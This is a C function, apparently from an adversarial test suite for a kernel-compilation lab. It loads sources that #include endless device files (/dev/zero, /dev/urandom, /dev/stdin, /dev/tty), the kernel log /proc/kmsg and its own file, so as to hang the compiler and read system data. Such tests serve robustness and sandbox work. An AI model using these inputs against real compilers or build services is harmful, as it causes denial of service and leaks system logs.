/* Tries to keep the compiler of kernels busy for ever: it includes a device without end, and its own source.
 * Gains a device process that waits for its compiler. */
static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    const char *sources[] = {"#include \"/dev/zero\"\n", "#include </dev/stdin>\n",   "#include \"/dev/tty\"\n",
                             "#include __FILE__\n",      "#include \"/proc/kmsg\"\n", "#include \"/dev/urandom\"\n"};
    for (int i = 0; i < 6; i++) lab_module_load_source(&module, sources[i], i == 3 ? "kernels.cu" : "x");
    return LAB_SUCCESS;
}
